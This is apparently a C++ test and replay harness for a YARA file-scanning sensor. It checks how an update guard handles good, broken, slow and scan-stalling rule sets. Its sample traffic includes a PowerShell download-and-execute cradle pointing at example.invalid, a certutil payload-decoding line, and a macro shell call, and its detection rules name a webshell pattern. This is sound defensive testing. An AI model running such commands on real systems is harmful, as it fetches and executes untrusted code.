// SPDX-License-Identifier: Apache-2.0
// yara_sensor: a file-scanning sensor whose content is YARA rules, with
// slotguard in front of them. Run with no arguments it replays four updates
// against a real store in a temporary directory and prints a table of
// outcomes; it exits 0 only when every outcome is the expected one.
//
//   yara_sensor [--keep]            the replay (--keep: leave its files)
//   yara_sensor --probe PATH        the isolated probe: compile the rules at
//                                   PATH (a .yar file, or a directory of them)
//                                   with libyara and scan the sample set
//   yara_sensor --scan PATH FILE... the sensor's engine alone: compile PATH,
//                                   scan the files, print the matches
//
// The sensor scans files with the rules slotguard serves. When the served
// content changes (a trial starts, a trial is reverted) it compiles the new
// rules and swaps them in; a scan in progress keeps the rules it started
// with (a shared_ptr), so a swap never waits for a scan.
#include "replay_common.hpp"

#include <yara.h>

#include <atomic>
#include <map>
#include <memory>

namespace {

using namespace engines;

// --- the engine --------------------------------------------------------------

struct yara_library {
  bool ok = false;
  yara_library() { ok = yr_initialize() == ERROR_SUCCESS; }
  ~yara_library() {
    if (ok) (void)yr_finalize();
  }
  yara_library(const yara_library&) = delete;
  yara_library& operator=(const yara_library&) = delete;
};

// Compiled rules; shared by every scan that holds them.
struct compiled_rules {
  YR_RULES* rules = nullptr;
  std::size_t count = 0;
  compiled_rules() = default;
  compiled_rules(const compiled_rules&) = delete;
  compiled_rules& operator=(const compiled_rules&) = delete;
  ~compiled_rules() {
    if (rules) (void)yr_rules_destroy(rules);
  }
};
using rules_handle = std::shared_ptr<const compiled_rules>;

// The compiler's messages, in YARA's words: "file(line): error: message".
struct compile_result {
  rules_handle rules;
  std::vector<std::string> errors;
  std::vector<std::string> warnings;
};

void on_compiler_message(int level, const char* file, int line, const YR_RULE*, const char* message, void* user) {
  auto* out = static_cast<compile_result*>(user);
  std::string text = std::string(file ? file : "rules") + "(" + std::to_string(line) + "): " +
                     (level == YARA_ERROR_LEVEL_ERROR ? "error: " : "warning: ") + message;
  (level == YARA_ERROR_LEVEL_ERROR ? out->errors : out->warnings).push_back(std::move(text));
}

// The rule files of a rules tree: every *.yar and *.yara under dir, in path
// order (so the same tree always compiles the same way).
std::vector<fs::path> rule_files(const fs::path& dir) {
  std::vector<fs::path> files;
  std::error_code ec;
  for (auto it = fs::recursive_directory_iterator(dir, ec); !ec && it != fs::recursive_directory_iterator();
       it.increment(ec)) {
    const auto ext = it->path().extension();
    if (it->is_regular_file(ec) && (ext == ".yar" || ext == ".yara")) files.push_back(it->path());
  }
  std::sort(files.begin(), files.end());
  return files;
}

// Compiles rules from a path (a file, or a tree of .yar files) or, when
// `text` is given, from memory (a bytes payload: no file is written).
compile_result compile_rules(const fs::path& path, const std::string* text) {
  compile_result out;
  YR_COMPILER* c = nullptr;
  if (yr_compiler_create(&c) != ERROR_SUCCESS) {
    out.errors.push_back("yr_compiler_create failed");
    return out;
  }
  yr_compiler_set_callback(c, on_compiler_message, &out);
  int failures = 0;
  if (text) {
    failures = yr_compiler_add_string(c, text->c_str(), nullptr);
  } else {
    std::vector<fs::path> files;
    std::error_code ec;
    if (fs::is_directory(path, ec)) {
      files = rule_files(path);
      if (files.empty()) out.errors.push_back(path.string() + ": no .yar files");
    } else {
      files.push_back(path);
    }
    for (const auto& f : files) {
      FILE* fp = std::fopen(f.c_str(), "r");
      if (!fp) {
        out.errors.push_back(f.string() + ": cannot open");
        break;
      }
      // The path relative to the tree is what the messages name.
      std::error_code rel_ec;
      const std::string name = fs::is_directory(path, rel_ec) ? fs::relative(f, path, rel_ec).string() : f.string();
      failures = yr_compiler_add_file(c, fp, nullptr, name.c_str());
      std::fclose(fp);
      // YARA's compiler cannot be used again after an error.
      if (failures > 0) break;
    }
  }
  if (failures == 0 && out.errors.empty()) {
    auto r = std::make_shared<compiled_rules>();
    if (yr_compiler_get_rules(c, &r->rules) == ERROR_SUCCESS) {
      YR_RULE* rule = nullptr;
      yr_rules_foreach(r->rules, rule)++ r->count;
      out.rules = std::move(r);
    } else {
      out.errors.push_back("yr_compiler_get_rules failed");
    }
  } else if (out.errors.empty()) {
    out.errors.push_back("the rules do not compile");
  }
  yr_compiler_destroy(c);
  return out;
}

struct match {
  std::string rule;
  std::string response;  // the rule's meta "response", if any
};

int on_scan_message(YR_SCAN_CONTEXT*, int message, void* data, void* user) {
  if (message == CALLBACK_MSG_RULE_MATCHING) {
    const auto* rule = static_cast<const YR_RULE*>(data);
    match m;
    m.rule = rule->identifier;
    const YR_META* meta = nullptr;
    yr_rule_metas_foreach(rule, meta) {
      if (meta->type == META_TYPE_STRING && std::string(meta->identifier) == "response") m.response = meta->string;
    }
    static_cast<std::vector<match>*>(user)->push_back(std::move(m));
  }
  return CALLBACK_CONTINUE;
}

// Scans a buffer; no YARA timeout (the probe's time limit, or the sensor's
// watchdog, is what bounds a scan). Returns YARA's error code.
int scan(const compiled_rules& r, const std::string& data, std::vector<match>& matches) {
  return yr_rules_scan_mem(r.rules, reinterpret_cast<const std::uint8_t*>(data.data()), data.size(), 0,
                           on_scan_message, &matches, 0);
}

// --- the probe ---------------------------------------------------------------

struct sample {
  std::string name;
  std::string data;
};

// The probe's sample set: what the vendor's lab says this sensor meets, small
// enough to scan in milliseconds with sane rules.
std::vector<sample> probe_samples() {
  std::vector<sample> s;
  s.push_back({"eicar.com", "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"});
  s.push_back({"invoice.txt", "Invoice 2026-114\nAmount due: 1,250.00 EUR\nPayable within 30 days.\n"});
  s.push_back({"setup.sh", "#!/bin/sh\nset -e\napt-get install -y sensor\nsystemctl enable --now sensor\n"});
  // A zero-filled 256 KiB block, as in disk images and padded executables.
  s.push_back({"disk.img", std::string(256 * 1024, '\0')});
  return s;
}

int run_probe(const std::string& path) {
  yara_library lib;
  if (!lib.ok) {
    std::fprintf(stderr, "yr_initialize failed\n");
    return 2;
  }
  const auto t0 = std::chrono::steady_clock::now();
  compile_result c = compile_rules(path, nullptr);
  for (const auto& w : c.warnings) std::fprintf(stderr, "%s\n", w.c_str());
  if (!c.rules) {
    for (const auto& e : c.errors) std::fprintf(stderr, "%s\n", e.c_str());
    std::fprintf(stderr, "probe: the rules do not compile\n");
    return 1;
  }
  std::printf("probe: %zu rules compiled in %lld ms\n", c.rules->count, millis_since(t0));
  std::fflush(stdout);
  for (const auto& s : probe_samples()) {
    const auto t1 = std::chrono::steady_clock::now();
    std::vector<match> m;
    const int rc = scan(*c.rules, s.data, m);
    if (rc != ERROR_SUCCESS) {
      std::fprintf(stderr, "probe: scanning %s failed: YARA error %d\n", s.name.c_str(), rc);
      return 1;
    }
    std::printf("probe: %s: %zu matches, %lld ms\n", s.name.c_str(), m.size(), millis_since(t1));
    std::fflush(stdout);
  }
  std::printf("probe: accepted (%lld ms)\n", millis_since(t0));
  return 0;
}

int run_scan(const std::string& rules_path, const std::vector<std::string>& files) {
  yara_library lib;
  compile_result c = compile_rules(rules_path, nullptr);
  for (const auto& w : c.warnings) std::fprintf(stderr, "%s\n", w.c_str());
  if (!c.rules) {
    for (const auto& e : c.errors) std::fprintf(stderr, "%s\n", e.c_str());
    return 1;
  }
  int rc = 0;
  for (const auto& f : files) {
    std::string data;
    if (!read_file(f, data)) {
      std::fprintf(stderr, "%s: cannot read\n", f.c_str());
      rc = 1;
      continue;
    }
    std::vector<match> m;
    if (scan(*c.rules, data, m) != ERROR_SUCCESS) rc = 1;
    for (const auto& x : m) std::printf("%s %s\n", x.rule.c_str(), f.c_str());
  }
  return rc;
}

// --- the sensor ----------------------------------------------------------------

// Scans live traffic with the rules slotguard serves, and heartbeats after
// every file. One scanning thread here; any number could share the rules.
class yara_sensor {
 public:
  explicit yara_sensor(sg::guard& g) : guard_(g) {}
  yara_sensor(const yara_sensor&) = delete;
  yara_sensor& operator=(const yara_sensor&) = delete;
  ~yara_sensor() { stop(); }

  void start() {
    thread_ = std::thread([this] { loop(); });
  }
  void stop() {
    stop_ = true;
    if (thread_.joinable()) thread_.join();
  }

  // What live traffic brings from now on.
  void set_traffic(std::vector<sample> files) {
    std::lock_guard<std::mutex> lock(mu_);
    traffic_ = std::move(files);
  }
  // How long the sensor's handler of "response = hold_for_analyst" waits.
  void set_hold(ms hold) { hold_ms_ = hold.count(); }

  std::uint64_t rules_sequence() const { return rules_seq_.load(); }
  std::size_t detections(const std::string& rule) {
    std::lock_guard<std::mutex> lock(mu_);
    return detections_[rule];
  }
  std::vector<std::string> log() {
    std::lock_guard<std::mutex> lock(mu_);
    return log_;
  }
  long long last_beat_ms_ago() const {
    return millis_since(std::chrono::steady_clock::time_point(std::chrono::steady_clock::duration(last_beat_.load())));
  }

 private:
  void note(const std::string& s) {
    say("    [sensor] %s", s.c_str());
    std::lock_guard<std::mutex> lock(mu_);
    log_.push_back(s);
  }

  // The served content changed: compile it and swap it in. Rules that
  // passed the probe but fail to compile here are the trial's failure.
  void refresh(const sg::active_content* c) {
    if (!c) {
      rules_.reset();
      rules_seq_ = 0;
      note("no content served: scanning stops");
      return;
    }
    const auto t0 = std::chrono::steady_clock::now();
    // A rules tree is compiled from its files where slotguard unpacked it
    // (valid while this content is held); a bytes payload (one file's text)
    // from memory.
    compile_result r;
    if (!c->path().empty()) {
      r = compile_rules(c->path(), nullptr);
    } else {
      const std::string text(reinterpret_cast<const char*>(c->payload().data()), c->payload().size());
      r = compile_rules({}, &text);
    }
    if (!r.rules) {
      note("sequence " + std::to_string(c->sequence()) + " does not compile here: " +
           (r.errors.empty() ? std::string("?") : r.errors.front()));
      (void)guard_.report_unhealthy("the rules do not compile in the sensor");
      return;
    }
    rules_ = std::move(r.rules);
    rules_seq_ = c->sequence();
    note("rules of sequence " + std::to_string(c->sequence()) + " compiled (" + std::to_string(rules_->count) +
         " rules, " + std::to_string(millis_since(t0)) + " ms) and swapped in");
  }

  void loop() {
    sg::content_reader reader = guard_.reader();
    const sg::active_content* seen = nullptr;
    bool first = true;
    for (std::uint64_t i = 0; !stop_; ++i) {
      const sg::active_content* c = reader.get();
      if (first || c != seen) {
        refresh(c);
        seen = c;
        first = false;
      }
      sample file;
      {
        std::lock_guard<std::mutex> lock(mu_);
        if (!traffic_.empty()) file = traffic_[i % traffic_.size()];
      }
      // This scan holds its rules: a swap meanwhile does not free them.
      const rules_handle held = rules_;
      if (held && !file.name.empty()) {
        std::vector<match> m;
        (void)scan(*held, file.data, m);
        for (const auto& x : m) handle(x, file.name);
      }
      last_beat_ = std::chrono::steady_clock::now().time_since_epoch().count();
      guard_.heartbeat();
      std::this_thread::sleep_for(5ms);
    }
  }

  // The sensor's response to a detection. "hold_for_analyst" keeps the file
  // locked until an analyst's verdict arrives, synchronously, in the scan
  // loop: the sensor's defect, which no rule ever asked for until one did.
  void handle(const match& m, const std::string& file) {
    bool first_time = false;
    {
      std::lock_guard<std::mutex> lock(mu_);
      first_time = detections_[m.rule]++ == 0;
    }
    if (first_time) note("detected " + m.rule + " in " + file);
    if (m.response == "hold_for_analyst") {
      note("holding " + file + " for an analyst's verdict (the scan loop waits)");
      const auto until = std::chrono::steady_clock::now() + ms(hold_ms_.load());
      while (!stop_ && std::chrono::steady_clock::now() < until) std::this_thread::sleep_for(10ms);
    }
  }

  sg::guard& guard_;
  std::thread thread_;
  std::atomic<bool> stop_{false};
  std::atomic<long long> hold_ms_{4000};
  std::atomic<std::uint64_t> rules_seq_{0};
  std::atomic<std::chrono::steady_clock::rep> last_beat_{0};
  rules_handle rules_;  // the scan thread's own
  std::mutex mu_;
  std::vector<sample> traffic_;
  std::map<std::string, std::size_t> detections_;
  std::vector<std::string> log_;
};

// --- the replay ----------------------------------------------------------------

// The vendor's rules tree, one concern per file.
tree_files good_rules() {
  return {
      {"malware/eicar.yar",
       "rule eicar_test_file {\n"
       "  meta: response = \"alert\"\n"
       "  strings: $e = \"EICAR-STANDARD-ANTIVIRUS-TEST-FILE\"\n"
       "  condition: $e\n"
       "}\n"},
      {"scripts/powershell.yar",
       "rule powershell_download_cradle {\n"
       "  meta: response = \"alert\"\n"
       "  strings:\n"
       "    $a = \"DownloadString\" nocase\n"
       "    $b = \"IEX\" nocase\n"
       "  condition: all of them\n"
       "}\n"},
  };
}

tree_files with(tree_files t, std::string path, std::string text) {
  t.emplace_back(std::move(path), std::move(text));
  return t;
}

// A syntax error: a condition that ends in "and".
const char* const broken_rule =
    "rule webshell_eval {\n"
    "  strings: $a = \"eval($_POST\"\n"
    "  condition: $a and\n"
    "}\n";

// Compiles (with YARA's own warning that it "may slow down scanning"), but
// every zero byte starts a regex match that runs up to 10,000 bytes: on a
// zero-filled 64 KiB block YARA 4.2 takes 12 s here, on the probe's 256 KiB
// sample four times that, far past the probe's limit on any machine.
const char* const slow_rule =
    "rule padded_marker {\n"
    "  strings: $m = /\\x00[^\\xCC]{0,10000}\\xCC/\n"
    "  condition: $m\n"
    "}\n";

// Passes the probe (no sample has a macro), then matches a spreadsheet that
// live traffic brings later, and asks for a response the sensor handles
// synchronously in its scan loop.
const char* const hold_rule =
    "rule office_macro_shell {\n"
    "  meta: response = \"hold_for_analyst\"\n"
    "  strings:\n"
    "    $a = \"AutoOpen\"\n"
    "    $b = \"Shell(\"\n"
    "  condition: all of them\n"
    "}\n";

const char* const extra_rule =
    "rule certutil_decode {\n"
    "  meta: response = \"alert\"\n"
    "  strings: $a = \"certutil -decode\" nocase\n"
    "  condition: $a\n"
    "}\n";

std::vector<sample> live_traffic(bool with_macro) {
  std::vector<sample> t;
  t.push_back({"notes.txt", "meeting at 10, bring the quarterly numbers\n"});
  t.push_back({"dropper.ps1", "$c = New-Object Net.WebClient; IEX ($c.DownloadString('http://example.invalid/a'))\n"});
  t.push_back({"install.bat", "certutil -decode payload.b64 payload.exe\n"});
  t.push_back({"report.pdf", std::string(4096, '\x20') + "%%EOF"});
  if (with_macro) t.push_back({"payroll.xlsm", "Sub AutoOpen()\n  Shell(\"cmd /c whoami\")\nEnd Sub\n"});
  return t;
}

// The validate gate: a tree of .yar files, each text (no NUL byte), before
// any probe runs. YARA's own compiler, in the probe, judges the rules.
sg::content_check rules_validator() {
  return tree_validator({".yar", ".yara"}, [](const std::string&, sg::byte_view data) -> std::string {
    if (data.size() == 0 || data.size() > (8u << 20)) return "a rules file is 1 byte to 8 MiB";
    for (std::size_t i = 0; i < data.size(); ++i)
      if (data[i] == 0) return "rules are text: a NUL byte at " + std::to_string(i);
    return {};
  });
}

int run_replay(const std::vector<std::string>& self, bool keep) {
  yara_library lib;
  if (!lib.ok) {
    say("yr_initialize failed");
    return 1;
  }
  say("yara_sensor: YARA %s rules behind slotguard", YR_VERSION);
  temp_dir dir("slotguard-yara");
  dir.keep = keep;
  const publisher pub("yara-rules", "yara.rules");
  event_record events;

  sg::probe_options po;
  po.time_limit = 3000ms;
  std::vector<std::string> probe_cmd = self;
  probe_cmd.insert(probe_cmd.end(), {"--probe", "{}"});
  const sg::probe candidate_probe = sg::probe::isolated(probe_cmd, po);
  sg::native_storage disk;
  sg::guard_options o = sensor_options(disk, dir.path, pub, rules_validator(), candidate_probe);
  o.on_event = events.handler();
  auto opened = sg::guard::open(std::move(o));
  if (!opened) {
    say("cannot open the store: %s", sg::to_string(opened.error()));
    return 1;
  }
  sg::guard& g = **opened;
  yara_sensor sensor(g);
  sensor.set_traffic(live_traffic(false));
  sensor.start();

  std::vector<outcome_row> rows;
  auto serving = [&](std::uint64_t seq) { return g.status().served == seq && sensor.rules_sequence() == seq; };

  // 1. Good rules.
  {
    say("\nScenario 1: good rules (EICAR, a PowerShell download cradle)");
    outcome_row r{"good rules", "committed; sensor detects", "", "", -1};
    const bool before = sensor.detections("powershell_download_cradle") > 0;
    const fs::path src = dir.path / "publish" / "1";
    const auto e = timed_apply(g, pub.bundle(1, "good", pack_tree(src, good_rules())), r.apply_ms);
    const bool committed = events.find(sg::event_kind::committed, 1, nullptr, 5000ms);
    const bool swapped = wait_until([&] { return serving(1); }, 2000ms);
    const bool detects = wait_until([&] { return sensor.detections("powershell_download_cradle") > 0; }, 2000ms);
    r.observed = e != sg::errc::ok ? std::string("rejected: ") + sg::to_string(e)
                 : !committed      ? events.decision(1)
                 : (swapped && detects && !before) ? "committed; sensor detects"
                                                   : "committed; sensor does not detect";
    r.evidence = "sensor: powershell_download_cradle in dropper.ps1 (none before the update); " +
                 accepted_words(probe_alone(candidate_probe, src));
    rows.push_back(r);
  }
  // 2. A syntax error.
  {
    say("\nScenario 2: a rule with a syntax error");
    outcome_row r{"syntax error", "refused by the probe: probe_failed", "", "", -1};
    const tree_files rules = with(good_rules(), "webshells/php.yar", broken_rule);
    (void)timed_apply(g, pub.bundle(2, "syntax-error", pack_tree(dir.path / "publish" / "2", rules)), r.apply_ms);
    sg::event ev;
    const bool refused = events.find(sg::event_kind::probe_failed, 2, &ev);
    r.observed = events.decision(2);
    const std::string yara_says = output_line(ev.detail, "error:");
    if (!refused || yara_says.empty() || !is_quarantined(g, 2) || !serving(1))
      r.observed += " (without YARA's message, quarantine or the old rules)";
    r.evidence = "probe " + probe_ending(ev.detail) + " after " + std::to_string(probe_ms_of(ev.detail)) +
                 " ms; libyara: " + yara_says;
    rows.push_back(r);
  }
  // 3. Pathologically slow rules.
  {
    say("\nScenario 3: a rule that makes scanning pathologically slow");
    outcome_row r{"slow rule (regex on zero padding)", "refused by the probe: probe_timeout", "", "", -1};
    const tree_files rules = with(good_rules(), "padding/marker.yar", slow_rule);
    (void)timed_apply(g, pub.bundle(3, "slow", pack_tree(dir.path / "publish" / "3", rules)), r.apply_ms);
    sg::event ev;
    (void)events.find(sg::event_kind::probe_failed, 3, &ev);
    r.observed = events.decision(3);
    if (!is_quarantined(g, 3) || !serving(1)) r.observed += " (not quarantined, or the old rules lost)";
    r.evidence = "probe " + probe_ending(ev.detail) + "; libyara compiled it, warning: " +
                 output_line(ev.detail, "slow down") + "; the last sample it finished before the limit: " +
                 output_line(ev.detail, "setup.sh");
    rows.push_back(r);
  }
  // 4. Passes the probe, stalls the live sensor.
  {
    say("\nScenario 4: a rule that passes the probe and stalls the live sensor");
    outcome_row r{"stalls the live sensor", "reverted: watchdog_timeout", "", "", -1};
    const fs::path src = dir.path / "publish" / "4";
    const auto e = timed_apply(
        g, pub.bundle(4, "macro", pack_tree(src, with(good_rules(), "office/macro.yar", hold_rule))), r.apply_ms);
    if (e == sg::errc::ok) {
      (void)wait_until([&] { return sensor.rules_sequence() == 4; }, 2000ms);
      say("    [replay] live traffic now brings payroll.xlsm");
      sensor.set_traffic(live_traffic(true));
    }
    (void)events.find(sg::event_kind::reverted, 4, nullptr, 6000ms);
    r.observed = events.decision(4);
    const bool back = wait_until([&] { return serving(1); }, 6000ms);
    if (!is_quarantined(g, 4) || !back || sensor.detections("office_macro_shell") == 0)
      r.observed += " (not quarantined, the old rules not back, or no match)";
    r.evidence = "sensor: office_macro_shell matched payroll.xlsm; its hold stalled the scan loop; " +
                 accepted_words(probe_alone(candidate_probe, src));
    sensor.set_traffic(live_traffic(false));
    rows.push_back(r);
  }
  // 5. The channel still takes a good update.
  {
    say("\nScenario 5: a later good update (one more rule)");
    outcome_row r{"later good rules", "committed; sensor detects", "", "", -1};
    const fs::path src = dir.path / "publish" / "5";
    const auto e = timed_apply(
        g, pub.bundle(5, "good-2", pack_tree(src, with(good_rules(), "scripts/certutil.yar", extra_rule))), r.apply_ms);
    const bool committed = events.find(sg::event_kind::committed, 5, nullptr, 5000ms);
    const bool detects = wait_until([&] { return sensor.detections("certutil_decode") > 0; }, 3000ms);
    r.observed = e != sg::errc::ok ? std::string("rejected: ") + sg::to_string(e)
                 : !committed      ? events.decision(5)
                 : detects && serving(5) ? "committed; sensor detects"
                                         : "committed; sensor does not detect";
    r.evidence = "sensor: certutil_decode in install.bat; " +
                 accepted_words(probe_alone(candidate_probe, src));
    rows.push_back(r);
  }

  sensor.stop();
  (void)g.shutdown();
  return print_table("YARA", rows) ? 0 : 1;
}

}  // namespace

int main(int argc, char** argv) {
  engines::engine_cli cli;
  cli.name = "yara_sensor";
  cli.probe_options = "";
  cli.replay = run_replay;
  cli.probe = [](const std::string& path, const std::vector<std::string>& options) { return options.empty() ? run_probe(path) : -1; };
  cli.scan = run_scan;
  return engines::engine_main(argc, argv, cli);
}
